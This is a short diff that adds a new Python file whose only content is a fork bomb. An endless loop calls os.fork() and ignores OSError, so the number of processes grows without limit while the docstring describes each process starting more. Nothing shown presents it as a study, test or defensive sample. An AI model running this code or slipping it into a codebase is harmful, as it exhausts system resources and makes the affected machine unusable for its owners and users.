@@ -1,0 +1,9 @@
+"""Every process starts two more."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
